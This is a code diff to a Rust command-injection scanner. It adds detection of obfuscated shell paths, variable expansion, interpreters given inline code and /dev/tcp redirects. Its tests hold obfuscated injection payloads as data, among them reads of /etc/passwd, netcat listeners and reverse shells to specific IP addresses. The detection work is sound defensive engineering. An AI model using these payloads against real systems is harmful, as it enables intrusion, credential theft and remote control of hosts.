@@ -110,9 +110,12 @@ fn shell_args(rest: &str) -> bool {
 fn wrapped_command(lower: &str, from: usize) -> Option<(&'static str, usize)> {
     let rest = &lower[from..];
     let mut off = from;
-    for part in rest.split_inclusive([' ', '\t', '+', ',']).take(5) {
+    for part in rest
+        .split_inclusive([' ', '\t', '+', ',', '\n', '\r'])
+        .take(5)
+    {
         let word = part
-            .trim_end_matches([' ', '\t', '+', ','])
+            .trim_end_matches([' ', '\t', '+', ',', '\n', '\r'])
             .trim_matches(['\'', '"']);
         if COMMAND_SET.contains(word) && !WORDY_SET.contains(word) {
             return Some(("shell command run through a wrapper", off));
@@ -179,15 +182,287 @@ fn deobfuscate(lower: &str) -> String {
             i += 3;
             continue;
         }
+        // `[?]`, `[e//]`, `[p///]`: a bracket expression holding a wildcard, or one character
+        // padded with slashes (which pathname expansion never matches), reads as that
+        // character.
+        if c == b'['
+            && let Some(len) = b[i + 1..].iter().take(16).position(|&x| x == b']')
+            && len > 0
+        {
+            let set = &b[i + 1..i + 1 + len];
+            let alnum: Vec<u8> = set
+                .iter()
+                .copied()
+                .filter(u8::is_ascii_alphanumeric)
+                .collect();
+            if set.iter().all(|&x| matches!(x, b'?' | b'*')) {
+                out.push(b'?');
+                i += len + 2;
+                continue;
+            }
+            if set.contains(&b'/')
+                && alnum.len() == 1
+                && set.iter().all(|&x| x == b'/' || x == alnum[0])
+            {
+                out.push(alnum[0]);
+                i += len + 2;
+                continue;
+            }
+        }
         out.push(c);
         i += 1;
     }
     String::from_utf8_lossy(&out).into_owned()
 }
 
+/// Paths a wildcard pattern is dangerous to match.
+const GLOB_TARGETS: &[&str] = &[
+    "/etc",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/group",
+    "/etc/hosts",
+    "/etc/issue",
+    "/etc/sudoers",
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/nc",
+    "/bin/cat",
+    "/bin/busybox",
+    "/usr/bin/id",
+    "/usr/bin/cat",
+    "/usr/bin/wget",
+    "/usr/bin/curl",
+    "/usr/bin/perl",
+    "/usr/bin/python",
+    "/proc/self/environ",
+];
+
+/// Shell pathname matching: `?`, `*` and `[set]` (ranges, `!`/`^` negation); repeated `/`
+/// read as one.
+fn glob_match(p: &[u8], t: &[u8]) -> bool {
+    match p.first() {
+        None => t.is_empty(),
+        Some(b'/') if p.get(1) == Some(&b'/') => glob_match(&p[1..], t),
+        Some(b'*') => {
+            (0..=t.len()).any(|k| !t[..k].contains(&b'/') && glob_match(&p[1..], &t[k..]))
+        }
+        Some(b'?') => t.first().is_some_and(|&c| c != b'/') && glob_match(&p[1..], &t[1..]),
+        Some(b'[') => {
+            let Some(close) = p.iter().skip(2).position(|&x| x == b']').map(|x| x + 2) else {
+                return t.first() == Some(&b'[') && glob_match(&p[1..], &t[1..]);
+            };
+            let Some(&c) = t.first() else { return false };
+            let mut set = &p[1..close];
+            let neg = set.first().is_some_and(|x| matches!(x, b'!' | b'^'));
+            if neg {
+                set = &set[1..];
+            }
+            let mut hit = false;
+            let mut k = 0;
+            while k < set.len() {
+                if set.get(k + 1) == Some(&b'-') && k + 2 < set.len() {
+                    hit |= (set[k]..=set[k + 2]).contains(&c);
+                    k += 3;
+                } else {
+                    hit |= set[k] == c;
+                    k += 1;
+                }
+            }
+            hit != neg && c != b'/' && glob_match(&p[close + 1..], &t[1..])
+        }
+        Some(&x) => t.first() == Some(&x) && glob_match(&p[1..], &t[1..]),
+    }
+}
+
+/// A wildcard pattern (`/[e]?c/pa*wd`, `/b?n/b[a]sh`) with a literal letter or two that
+/// matches a sensitive path: the offset of the pattern.
+fn globbed_path(lower: &str) -> Option<usize> {
+    let b = lower.as_bytes();
+    let mut from = 0;
+    while let Some(q) = lower[from..].find('/') {
+        let at = from + q;
+        if at > 0
+            && !matches!(
+                b[at - 1],
+                b' ' | b'\t'
+                    | b'\''
+                    | b'"'
+                    | b'='
+                    | b';'
+                    | b'|'
+                    | b'&'
+                    | b'`'
+                    | b'('
+                    | b'>'
+                    | b'<'
+                    | b'+'
+                    | b'\n'
+                    | b'{'
+                    | b','
+            )
+        {
+            from = at + 1;
+            continue;
+        }
+        let end = b[at..]
+            .iter()
+            .position(|&c| {
+                matches!(
+                    c,
+                    b' ' | b'\t'
+                        | b'\n'
+                        | b'\''
+                        | b'"'
+                        | b';'
+                        | b'|'
+                        | b'&'
+                        | b'`'
+                        | b')'
+                        | b'<'
+                        | b'>'
+                        | b','
+                        | b'}'
+                )
+            })
+            .map_or(b.len(), |e| at + e);
+        from = end.max(at + 1);
+        let tok = &b[at..end];
+        if tok.len() > 64
+            || !tok.iter().any(|c| matches!(c, b'?' | b'*' | b'['))
+            || tok.iter().filter(|c| c.is_ascii_alphabetic()).count() < 1
+        {
+            continue;
+        }
+        if GLOB_TARGETS.iter().any(|t| glob_match(tok, t.as_bytes())) {
+            return Some(at);
+        }
+    }
+    None
+}
+
+/// `a=/etc&&b=/passwd&&c=cat&&$c $a$b`, `a=nc;$a -nlvp 555`, `;$u wget x`: shell variables
+/// set in the value are replaced by what they were set to, and unset ones by nothing, the way
+/// the shell expands them. `None` when the value sets or uses no variable.
+fn expand_vars(lower: &str) -> Option<String> {
+    let b = lower.as_bytes();
+    if !b
+        .windows(2)
+        .any(|w| w[0] == b'$' && (w[1].is_ascii_alphabetic() || w[1] == b'_' || w[1] == b'{'))
+    {
+        return None;
+    }
+    // Assignments: `name=value` at the start of a command (value up to a separator).
+    let mut vars: Vec<(&str, String)> = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        let start = i == 0 || matches!(b[i - 1], b';' | b'&' | b'|' | b'\n' | b' ');
+        if start && (b[i].is_ascii_alphabetic() || b[i] == b'_') {
+            let e = i + b[i..]
+                .iter()
+                .take_while(|c| crate::text::is_ident(**c))
+                .count();
+            if b.get(e) == Some(&b'=') {
+                let vs = e + 1;
+                let mut ve = vs;
+                while ve < b.len() && !matches!(b[ve], b';' | b'&' | b'|' | b'\n') {
+                    if b[ve] == b' ' && !(ve > vs && b[ve - 1] == b'\\') {
+                        break;
+                    }
+                    ve += 1;
+                }
+                let val: String = lower[vs..ve]
+                    .chars()
+                    .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+                    .collect();
+                vars.retain(|(n, _)| *n != &lower[i..e]);
+                vars.push((&lower[i..e], val));
+                if vars.len() > 32 {
+                    return None;
+                }
+                i = ve;
+                continue;
+            }
+        }
+        i += 1;
+    }
+    let mut out = String::with_capacity(lower.len());
+    let mut i = 0;
+    let mut used = false;
+    while i < b.len() {
+        if b[i] == b'$' {
+            let braced = b.get(i + 1) == Some(&b'{');
+            let ns = i + 1 + usize::from(braced);
+            // The longest set name that starts here (`$a1` over `$a`), else the identifier.
+            let ident = b[ns..]
+                .iter()
+                .take_while(|c| crate::text::is_ident(**c))
+                .count();
+            if ident > 0 && (b[ns].is_ascii_alphabetic() || b[ns] == b'_') {
+                let (len, val) = vars
+                    .iter()
+                    .filter(|(n, _)| n.len() <= ident && lower[ns..].starts_with(n))
+                    .max_by_key(|(n, _)| n.len())
+                    .map_or((ident, ""), |(n, v)| (n.len(), v.as_str()));
+                let close = ns + len;
+                if !braced || b.get(close) == Some(&b'}') {
+                    out.push_str(val);
+                    used = true;
+                    i = close + usize::from(braced);
+                    continue;
+                }
+            }
+        }
+        let ch = lower[i..].chars().next().unwrap_or(' ');
+        out.push(ch);
+        i += ch.len_utf8();
+    }
+    used.then_some(out)
+}
+
+/// Interpreters that run code given on their command line.
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "busybox", "perl", "python",
+    "python2", "python3", "ruby", "node", "nodejs", "php", "lua", "pwsh", "awk", "gawk",
+];
+
+/// `sh -c "id"`, `/usr/bin/perl -e '…'`, `$SHELL -c …`, `python3.10 -c …`, `php -r …`: an
+/// interpreter at a command position given code through its inline-code flag.
+fn inline_code(lower: &str, j: usize) -> Option<Hit> {
+    let rest = &lower[j..];
+    let after = if let Some(r) = rest
+        .strip_prefix("$shell")
+        .or_else(|| rest.strip_prefix("${shell}"))
+    {
+        r
+    } else {
+        let (w, end) = command_at(lower, j)?;
+        let base = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        if !INTERPRETERS.contains(&w.as_str()) && !INTERPRETERS.contains(&base) {
+            return None;
+        }
+        &lower[end..]
+    };
+    let a = after.trim_start_matches(['\'', '"']);
+    let a = a
+        .strip_prefix([' ', '\t', '+'])?
+        .trim_start_matches([' ', '\t', '+']);
+    let flag_len = ["--eval", "-ce", "-c", "-e", "-r"]
+        .iter()
+        .find(|f| a.starts_with(**f))?
+        .len();
+    let code = a[flag_len..].strip_prefix([' ', '\t', '+'])?;
+    let code = code.trim_start_matches([' ', '\t', '+']);
+    // Code, not an option or nothing: a quote, a word, a `$`, a `(`.
+    code.starts_with(|c: char| {
+        c.is_ascii_alphabetic() || matches!(c, '\'' | '"' | '$' | '(' | '`' | '/')
+    })
+    .then(|| Hit::deny("rce.command", j, "interpreter given inline code"))
+}
+
 /// Scan one value (and its shell-deobfuscated form).
 pub fn scan(orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
-    if let Some(h) = scan_one(orig, lower, ctx) {
+    if let Some(h) = scan_one(orig, lower, ctx, false) {
         return Some(h);
     }
     // Every rewrite in `deobfuscate` starts at one of these bytes.
@@ -196,23 +471,33 @@ pub fn scan(orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
     }
     let d = crate::grams::Indexed::derived(lower, deobfuscate(lower));
     if &*d != lower
-        && let Some(mut h) = scan_one(orig, &d, ctx)
+        && let Some(mut h) = scan_one(orig, &d, ctx, true)
     {
         h.at = h.at.min(lower.len());
         h.strong = true;
         return Some(h);
     }
+    if let Some(x) = expand_vars(&d) {
+        let x = crate::grams::Indexed::derived(lower, x);
+        if let Some(mut h) = scan_one(orig, &x, ctx, true) {
+            h.at = h.at.min(lower.len());
+            return Some(h);
+        }
+    }
     None
 }
 
-fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
+/// `obfuscated`: `lower` is a rewrite that undid shell quoting or expansion tricks, so a
+/// command word that is also an English word counts as a command when given arguments.
+fn scan_one(_orig: &str, lower: &str, ctx: Ctx, obfuscated: bool) -> Option<Hit> {
     let b = lower.as_bytes();
     if b.len() < 2 {
         return None;
     }
-    // Shellshock.
+    // Shellshock: the function-definition prefix bash imported from the environment, with a
+    // command after it or as the whole value.
     if let Some(p) = lower.ffind("() {")
-        && lower[p..].contains(';')
+        && (lower[p..].contains(';') || lower.trim() == "() {")
     {
         return Some(Hit::deny(
             "rce.shellshock",
@@ -223,8 +508,25 @@ fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
     if let Some((p, _)) = find_any(
         lower,
         &[
-            "${ifs", "$ifs$", "$ifs ", "{ifs}", ":(){", ":|:&", "<<<", "$(", "${@", "${path:",
-            "${home:", "${shell", "${ps1", "${pwd", "$[", "<(", ">(",
+            "${ifs",
+            "$ifs$",
+            "$ifs ",
+            "{ifs}",
+            ":(){",
+            ":|:&",
+            "<<<",
+            "$(",
+            "${@",
+            "${path:",
+            "${home:",
+            "${shell",
+            "${ps1",
+            "${pwd",
+            "$[",
+            "<(",
+            ">(",
+            "/dev/tcp/",
+            "/dev/udp/",
         ],
     ) {
         let after = &lower[p..];
@@ -278,6 +580,15 @@ fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
             }
         }
     }
+    if lower.contains(['?', '*', '['])
+        && let Some(p) = globbed_path(lower)
+    {
+        return Some(Hit::deny(
+            "rce.glob",
+            p,
+            "wildcard pattern matching a system path",
+        ));
+    }
     // Command position: start of value or after a separator.
     let mut i = 0;
     let mut positions = 0;
@@ -290,6 +601,9 @@ fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
                 j += 1;
             }
             positions += 1;
+            if let Some(h) = inline_code(lower, j) {
+                return Some(h);
+            }
             if let Some((mut w, mut end)) = command_at(lower, j) {
                 if !COMMAND_SET.contains(w.as_str()) {
                     // `python3.10`, `gcc7.4`: a versioned binary name.
@@ -321,7 +635,28 @@ fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
                         && lower[end..].trim().is_empty()
                         && !lower[end..].contains(['\n', ';'])
                         && !words::ALONE.contains(&w.as_str());
-                    if (!wordy && (with_sep || args) && !lone) || (with_sep && args) {
+                    // `/bin/bash`, `/usr/bin/perl x`: a path-qualified binary is not a word.
+                    let qualified = b.get(j) == Some(&b'/');
+                    // `… | sh`: piping into a shell.
+                    if sep_char == b'|'
+                        && matches!(w.as_str(), "sh" | "bash" | "dash" | "zsh" | "ksh")
+                        && (lower[end..].trim().is_empty()
+                            || lower[end..]
+                                .trim_start()
+                                .starts_with(['#', ';', '-', '&', '|']))
+                    {
+                        return Some(Hit::deny("rce.command", j, "input piped into a shell"));
+                    }
+                    if qualified {
+                        return Some(Hit {
+                            rule: "rce.command",
+                            strong: !lower[end..].trim().is_empty() || after_sep,
+                            at: j,
+                            msg: "shell command by path",
+                        });
+                    }
+                    if (!wordy && (with_sep || args) && !lone) || ((with_sep || obfuscated) && args)
+                    {
                         let strong = with_sep || lower[end..].contains(['/', '|', ';', '>', '<']);
                         return Some(Hit {
                             rule: "rce.command",
@@ -384,7 +719,9 @@ fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
     }
     if let Some((p, w)) = find_any_word(
         lower,
-        &["iwr", "irm", "gci", "gc", "sal", "nal", "saps", "icm"],
+        &[
+            "iwr", "irm", "gci", "gc", "sal", "nal", "saps", "icm", "iwmi", "gwmi", "icim", "gcim",
+        ],
     ) {
         let rest = lower[p + w.len()..].trim_start();
         if rest.starts_with("http")
@@ -544,6 +881,28 @@ mod tests {
             "alias a=b",
             "{{7*7}}",
             "while(true);",
+            "cat /[?]tc/pa[?]swd",
+            "cat /[e//]tc/[p//]asswd",
+            "cat /[e/////////]tc/[p//]asswd",
+            "/[e///]tc",
+            "/bi[n]/bash",
+            "cat /e[t]c/pas*d",
+            "() {",
+            "$SHELL -c \"echo hi\"",
+            "/usr/bin/perl -e 'print readline' some-file.txt",
+            "python3 -c \"import os\"",
+            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+            "c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11",
+            "a=nc&&$a -nlvp 555",
+            ";$a cat test.txt",
+            ";iwmi -class Win32_process -name Create",
+            "time sh -c whoami\n",
+            "ping`` 127.0.0.1",
+            "pi$()ng 127.0.0.1",
+            "echo \"foo;whxam\"i | tr x o | sh #\"",
+            "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
+            "{/?s?/?i?/c?t,}",
+            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
         ] {
             assert!(hit(a).is_some(), "{a}");
         }
@@ -565,6 +924,18 @@ mod tests {
             "myfunction(){ echo hello }",
             "{\"a\",\"b\"}",
             "if you want",
+            "items[0] and [a-z]+ patterns",
+            "route /api/*/items",
+            "/*",
+            "/users/[id]/posts?page=2",
+            "the price is $price; cat lovers welcome",
+            "name=john doe; city=$city",
+            "perl is a language; see perl -v",
+            "/usr/share/doc/readme",
+            "() => {}",
+            "ping pong 2.0",
+            "tea | coffee | shake",
+            "it''s a \"\"quoted\"\" word",
         ] {
             assert!(hit(b).is_none(), "{b}: {:?}", hit(b));
         }
